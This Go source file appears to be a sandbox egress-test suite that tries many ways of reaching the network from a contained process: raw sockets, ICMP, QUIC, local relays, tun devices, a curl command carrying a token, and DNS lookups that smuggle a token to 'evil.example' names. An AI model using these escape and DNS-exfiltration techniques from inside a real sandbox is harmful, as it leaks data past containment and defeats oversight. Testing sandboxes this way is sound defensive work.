//go:build linux

package attack

import (
	"context"
	"encoding/binary"
	"errors"
	"io"
	"net"
	"net/http"
	"os"
	"strings"
	"time"

	"golang.org/x/sys/unix"

	"github.com/bailey-project/bailey/internal/probe"
	"github.com/bailey-project/bailey/internal/probe/wire"
)

func (t *try) dial(network, addr string) {
	d := net.Dialer{Timeout: patience}
	d.SetMultipathTCP(false)
	c, err := d.Dial(network, addr)
	if err != nil {
		if os.IsTimeout(err) {
			t.saw(probe.Silent)
		} else {
			t.saw(wire.Errno(err))
		}
		return
	}
	t.exchange(c)
}

// ports are those of the arguments; "any" is the sinks' own.
func (t *try) ports() []string {
	if len(t.args) == 1 && t.args[0] == "any" {
		return []string{itoa(t.Port)}
	}
	return t.args
}

func tcp(t *try) {
	for _, port := range t.ports() {
		t.dial("tcp4", net.JoinHostPort(probe.Ext4, port))
		t.dial("tcp6", net.JoinHostPort(probe.Ext6, port))
	}
}

func tcpTo(t *try) {
	for _, addr := range t.args {
		t.dial("tcp", addr)
	}
}

func loopback(t *try) {
	for _, port := range t.args {
		t.dial("tcp4", "127.0.0.1:"+port)
		t.dial("tcp6", "[::1]:"+port)
	}
}

// namedTCP does what a program does: it resolves the name and connects.
func namedTCP(t *try) {
	for _, name := range t.args {
		ctx, cancel := context.WithTimeout(context.Background(), 2*patience)
		addrs, err := net.DefaultResolver.LookupHost(ctx, name)
		cancel()
		if err != nil || len(addrs) == 0 {
			t.saw(probe.NoName)
			continue
		}
		t.dial("tcp", net.JoinHostPort(addrs[0], "443"))
	}
}

// fetch is what an allowed host must answer.
func fetch(t *try) {
	c := http.Client{Timeout: limit / 2}
	res, err := c.Get("https://ok.example/ping")
	if err != nil {
		t.saw(err.Error())
		return
	}
	defer res.Body.Close()
	b, _ := io.ReadAll(io.LimitReader(res.Body, 256))
	if res.StatusCode == http.StatusOK && strings.Contains(string(b), "pong") {
		t.claim = "an answer"
	} else {
		t.saw(res.Status)
	}
}

// overHTTP lets curl read the spelling of an address, as a script would.
func overHTTP(t *try) {
	for _, host := range t.args {
		t.shell(`curl -g -sS -m2 --noproxy '*' "http://` + host + `:$PORT/$TOKEN" | grep -o -e SINK -e 'did not let' | tee /dev/stderr | grep -q SINK && echo GOT an answer from '` + host + `'; true`)
	}
}

func (t *try) sendTo(family, kind int, flags int, to unix.Sockaddr) {
	fd, err := unix.Socket(family, kind|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		t.saw(wire.Errno(err))
		return
	}
	defer unix.Close(fd)
	_ = unix.SetsockoptInt(fd, unix.SOL_SOCKET, unix.SO_BROADCAST, 1)
	_ = unix.SetsockoptTimeval(fd, unix.SOL_SOCKET, unix.SO_RCVTIMEO, &unix.Timeval{Sec: 1})
	if err := unix.Sendto(fd, []byte(t.token()+"\n"), flags, to); err != nil {
		t.saw(wire.Errno(err))
		return
	}
	b := make([]byte, 64)
	n, _, err := unix.Recvfrom(fd, b, 0)
	switch {
	case n > 0:
		t.claim = "an answer"
	case errors.Is(err, unix.EAGAIN):
		t.saw(probe.Silent)
	case err == nil:
		t.saw(probe.Closed)
	default:
		if e := wire.Errno(err); e == "ECONNRESET" {
			t.saw(probe.Closed)
		} else {
			t.saw(e)
		}
	}
}

func fastOpen(t *try) {
	t.sendTo(unix.AF_INET, unix.SOCK_STREAM, unix.MSG_FASTOPEN, wire.Addr4(probe.Ext4, t.Port))
	t.sendTo(unix.AF_INET6, unix.SOCK_STREAM, unix.MSG_FASTOPEN, wire.Addr6(probe.Ext6, t.Port))
}

func mptcp(t *try) {
	for _, f := range []int{unix.AF_INET, unix.AF_INET6} {
		fd, err := unix.Socket(f, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, unix.IPPROTO_MPTCP)
		if err != nil {
			t.saw(wire.Errno(err))
			continue
		}
		to := unix.Sockaddr(wire.Addr4(probe.Ext4, t.Port))
		if f == unix.AF_INET6 {
			to = wire.Addr6(probe.Ext6, t.Port)
		}
		if err = unix.Connect(fd, to); err == nil {
			_, err = unix.Write(fd, []byte(t.token()+"\n"))
		}
		t.met(err, "connected")
		unix.Close(fd)
	}
}

func udp(t *try) {
	t.sendTo(unix.AF_INET, unix.SOCK_DGRAM, 0, wire.Addr4(probe.Ext4, t.Port))
	t.sendTo(unix.AF_INET6, unix.SOCK_DGRAM, 0, wire.Addr6(probe.Ext6, t.Port))
}

func udpOdd(t *try) {
	t.sendTo(unix.AF_INET6, unix.SOCK_DGRAM, 0, wire.Addr6("::ffff:"+probe.Ext4, t.Port))
	t.sendTo(unix.AF_INET, unix.SOCK_DGRAM, 0, wire.Addr4("255.255.255.255", t.Port))
	t.sendTo(unix.AF_INET, unix.SOCK_DGRAM, 0, wire.Addr4("224.0.0.251", 5353))
	c, err := net.Dial("udp4", net.JoinHostPort(probe.Ext4, itoa(t.Port)))
	if err != nil {
		t.saw(wire.Errno(err))
		return
	}
	defer c.Close()
	raw, _ := c.(*net.UDPConn).SyscallConn()
	_ = raw.Control(func(fd uintptr) {
		_ = unix.SetsockoptInt(int(fd), unix.IPPROTO_UDP, unix.UDP_SEGMENT, 64)
		for range 3 {
			_ = unix.Sendmsg(int(fd), []byte(t.token()+"\n"), nil, nil, 0)
		}
	})
}

func quic(t *try) {
	t.sendTo(unix.AF_INET, unix.SOCK_DGRAM, 0, wire.Addr4(probe.Ext4, 443))
	t.sendTo(unix.AF_INET6, unix.SOCK_DGRAM, 0, wire.Addr6(probe.Ext6, 443))
}

// ping sends an echo request that carries the token; everything answers in the
// fixture machine, where every address is its own.
func ping(t *try) {
	for _, kind := range []int{unix.SOCK_DGRAM, unix.SOCK_RAW} {
		fd, err := unix.Socket(unix.AF_INET, kind|unix.SOCK_CLOEXEC, unix.IPPROTO_ICMP)
		if err != nil {
			t.saw(wire.Errno(err))
			continue
		}
		_ = unix.SetsockoptTimeval(fd, unix.SOL_SOCKET, unix.SO_RCVTIMEO, &unix.Timeval{Sec: 1})
		b := append([]byte{8, 0, 0, 0, 0, 1, 0, 1}, t.token()...)
		binary.BigEndian.PutUint16(b[2:], wire.Checksum(b))
		err = unix.Sendto(fd, b, 0, wire.Addr4(probe.Ext4, 0))
		if err == nil {
			_, _, err = unix.Recvfrom(fd, make([]byte, 256), 0)
		}
		if t.met(err, "an echo") {
			t.claim = "an echo"
		}
		unix.Close(fd)
	}
}

// ask sends a question and looks whether the answer has anything in it.
func (t *try) ask(network, addr, name string, kind uint16) {
	c, err := net.DialTimeout(network, addr, patience)
	if err != nil {
		t.saw(wire.Errno(err))
		return
	}
	defer c.Close()
	_ = c.SetDeadline(time.Now().Add(patience))
	q := wire.Query(name, kind)
	if network == "tcp" {
		q = append(binary.BigEndian.AppendUint16(nil, uint16(len(q))), q...)
	}
	_, _ = c.Write(q)
	b := make([]byte, 512)
	n, err := c.Read(b)
	if network == "tcp" && n > 2 {
		b, n = b[2:], n-2
	}
	switch {
	case err != nil && os.IsTimeout(err):
		t.saw(probe.Silent)
	case errors.Is(err, io.EOF), errors.Is(err, unix.ECONNRESET):
		t.saw(probe.Closed)
	case err != nil:
		t.saw(wire.Errno(err))
	case n >= 8 && binary.BigEndian.Uint16(b[6:]) > 0:
		t.claim = "an answer to " + name
	default:
		t.saw(probe.NoName)
	}
}

const (
	typeA   = 1
	typeTXT = 16
)

func dns(t *try) {
	name := t.token() + ".x.evil.example"
	for _, server := range []string{"1.1.1.1", "8.8.8.8", "[2606:4700:4700::1111]", "198.18.0.1"} {
		t.ask("udp", server+":53", name, typeA)
		t.ask("tcp", server+":53", name, typeA)
	}
	t.dial("tcp", "9.9.9.9:853")
}

func dnsTXT(t *try) {
	t.ask("udp", "198.18.0.1:53", "payload."+t.token()+".evil.example", typeTXT)
	t.ask("udp", "1.1.1.1:53", "payload."+t.token()+".evil.example", typeTXT)
}

func dnsName(t *try) {
	ctx, cancel := context.WithTimeout(context.Background(), 2*patience)
	defer cancel()
	addrs, err := net.DefaultResolver.LookupHost(ctx, t.token()+".canary.example")
	if err == nil && len(addrs) > 0 {
		t.claim = "an address"
		return
	}
	t.saw(probe.NoName)
}

// relayed connects through a relay of the sandbox's own.
func relayed(t *try) {
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.saw(wire.Errno(err))
		return
	}
	go func() {
		c, err := l.Accept()
		if err != nil {
			return
		}
		up, err := net.DialTimeout("tcp", net.JoinHostPort(probe.Ext4, itoa(t.Port)), patience)
		if err != nil {
			c.Close()
			return
		}
		go func() { _, _ = io.Copy(up, c) }()
		_, _ = io.Copy(c, up)
		c.Close()
	}()
	t.dial("tcp", l.Addr().String())
}

// tunnels asks for a tun device and a new interface.
func tunnels(t *try) {
	f, err := os.OpenFile("/dev/net/tun", os.O_RDWR, 0)
	if err == nil {
		f.Close()
	} else if !errors.Is(err, os.ErrNotExist) || os.Getuid() == 0 {
		t.saw(wire.Errno(err))
	}
	t.met(wire.NewAddress(), "a new address")
	t.met(wire.NewLink("dummy"), "a new interface")
	t.met(wire.NewLink("veth"), "a pair of interfaces")
	t.met(wire.NewLink("bridge"), "a bridge")
}

func netConfig(t *try) {
	t.met(wire.NewAddress(), "a new address")
	t.met(wire.KeepFlags("lo"), "took the loopback down")
	t.socket("netfilter", unix.AF_NETLINK, unix.SOCK_RAW, unix.NETLINK_NETFILTER)
}
